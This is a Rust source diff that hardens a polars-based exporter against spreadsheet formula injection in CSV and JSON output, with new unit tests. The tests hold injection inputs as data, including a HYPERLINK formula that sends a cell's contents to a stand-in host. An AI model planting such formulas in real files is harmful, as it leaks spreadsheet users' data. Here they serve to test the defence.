@@ -1,5 +1,6 @@
 //! Rows into columns, columns into CSV, Parquet and JSON files. The only place that knows polars.
 
+use std::borrow::Cow;
 use std::fs::File;
 use std::io::{self, BufWriter, Write};
 use std::path::Path;
@@ -199,7 +200,7 @@ impl Table {
 
     /// The columns with their true types.
     fn frame(&self) -> PolarsResult<DataFrame> {
-        self.frame_of(|name, values| match values {
+        self.frame_of(|name, _, values| match values {
             Values::Time(values) => Series::new(name, values.as_slice())
                 .into_datetime(TimeUnit::Microseconds, Some(TimeZone::UTC))
                 .into_column(),
@@ -227,13 +228,15 @@ impl Table {
 
     /// The columns as CSV shows them, texts that a spreadsheet would take for a formula made plain.
     fn text_frame(&self) -> PolarsResult<DataFrame> {
-        self.frame_of(|name, values| {
+        self.frame_of(|name, kind, values| {
+            let plain_text =
+                |text: &str| if kind == Type::Json { no_formula_in_json(text) } else { no_formula(text) }.into_owned();
             let texts: Vec<Option<String>> = match values {
                 Values::Time(times) => times.iter().map(|at| at.map(|at| Timestamp(at).to_string())).collect(),
                 Values::List(lists) => {
                     lists.iter().map(|l| (!l.is_empty()).then(|| no_formula(&joined(l)).into_owned())).collect()
                 }
-                Values::Text(texts) => texts.iter().map(|t| t.as_deref().map(|t| no_formula(t).into_owned())).collect(),
+                Values::Text(texts) => texts.iter().map(|t| t.as_deref().map(plain_text)).collect(),
                 Values::Counts(lists) => lists.iter().map(|l| (!l.is_empty()).then(|| joined_counts(l))).collect(),
                 Values::Bytes(values) => values.iter().map(|v| v.as_ref().map(|v| BASE64_STANDARD.encode(v))).collect(),
                 other => return plain(name, other),
@@ -242,9 +245,12 @@ impl Table {
         })
     }
 
-    fn frame_of(&self, column: impl Fn(PlSmallStr, &Values) -> Column) -> PolarsResult<DataFrame> {
+    fn frame_of(&self, column: impl Fn(PlSmallStr, Type, &Values) -> Column) -> PolarsResult<DataFrame> {
         let columns = self.schema.columns.iter().zip(&self.columns);
-        DataFrame::new(self.rows, columns.map(|(c, values)| column(PlSmallStr::from_static(c.name), values)).collect())
+        DataFrame::new(
+            self.rows,
+            columns.map(|(c, values)| column(PlSmallStr::from_static(c.name), c.kind, values)).collect(),
+        )
     }
 
     /// An array of objects, keys in the order of the columns; begun with the first piece of a table, not ended.
@@ -344,13 +350,37 @@ fn rounded(real: f64) -> f64 {
     (real * 10_000.0).round() / 10_000.0
 }
 
-/// A spreadsheet runs what begins with one of these as a formula (OWASP, "CSV Injection"): an apostrophe in front makes
-/// it text.
-fn no_formula(text: &str) -> std::borrow::Cow<'_, str> {
-    if text.starts_with(['=', '+', '-', '@', '\t', '\r', '\u{FF1D}', '\u{FF0B}', '\u{FF0D}', '\u{FF20}']) {
-        return format!("'{text}").into();
+/// A spreadsheet runs what begins with one of these as a formula (OWASP, "CSV Injection").
+const BEGINS_FORMULA: [char; 10] = ['=', '+', '-', '@', '\t', '\r', '\u{FF1D}', '\u{FF0B}', '\u{FF0D}', '\u{FF20}'];
+
+/// Where a formula may begin: at the beginning, and behind a `;` or a quote where a spreadsheet parts the line at those.
+fn formulas(text: &str) -> impl Iterator<Item = (usize, char)> {
+    let mut before = '"';
+    text.char_indices().filter(move |(_, c)| {
+        let begins = matches!(before, ';' | '"') && BEGINS_FORMULA.contains(c);
+        before = *c;
+        begins
+    })
+}
+
+/// An apostrophe in front makes a formula text.
+fn no_formula(text: &str) -> Cow<'_, str> {
+    replaced(text, |c| format!("'{c}"))
+}
+
+/// In JSON, where what may begin a formula stands in a string, an escape of JSON leaves the value as it is.
+fn no_formula_in_json(text: &str) -> Cow<'_, str> {
+    replaced(text, |c| format!("\\u{:04x}", u32::from(c)))
+}
+
+fn replaced(text: &str, plain: impl Fn(char) -> String) -> Cow<'_, str> {
+    let (mut out, mut done) = (String::new(), 0);
+    for (at, c) in formulas(text) {
+        out.push_str(text.get(done..at).unwrap_or_default());
+        out.push_str(&plain(c));
+        done = at + c.len_utf8();
     }
-    text.into()
+    if done == 0 { text.into() } else { (out + text.get(done..).unwrap_or_default()).into() }
 }
 
 /// Reads Parquet files of one table: the named columns of text, lists and counts, row by row.
@@ -593,6 +623,32 @@ mod tests {
             assert_eq!(no_formula(text), format!("'{text}"));
         }
         assert_eq!(no_formula("al@b.example"), "al@b.example");
+    }
+
+    #[test]
+    fn formulas_become_text_where_a_line_is_parted_otherwise() {
+        for (text, expected) in [
+            ("x;=1+41;y", "x;'=1+41;y"),
+            ("z\";=HYPERLINK(\"http://c.example\"&A1)", "z\";'=HYPERLINK(\"http://c.example\"&A1)"),
+            ("\"=1\";\"+1\";-1;@x;\tx;\rx;\u{FF1D}1", "\"'=1\";\"'+1\";'-1;'@x;'\tx;'\rx;'\u{FF1D}1"),
+            ("=1;=1", "'=1;'=1"),
+            ("al@b.example;bo-b@b.example;c+d@b.example", "al@b.example;bo-b@b.example;c+d@b.example"),
+            ("a=b; c - d \"e\" - f", "a=b; c - d \"e\" - f"),
+        ] {
+            assert_eq!(no_formula(text), expected);
+        }
+        let list = ["al@b.example".to_string(), "-1".to_string(), "@x".to_string()];
+        assert_eq!(no_formula(&joined(&list)), "al@b.example;'-1;'@x");
+    }
+
+    #[test]
+    fn json_keeps_its_values_without_formulas() {
+        let value = serde_json::json!({ "=a": ["+1", "x;=1", "\"@b", -1, "al@b.example"], "\u{FF1D}": "-" });
+        let text = value.to_string();
+        let plain = no_formula_in_json(&text);
+        assert_eq!(formulas(&plain).count(), 0, "{plain}");
+        assert_eq!(serde_json::from_str::<Value>(&plain).unwrap(), value);
+        assert!(plain.contains("al@b.example") && plain.contains(",-1,"), "{plain}");
     }
 
     #[test]
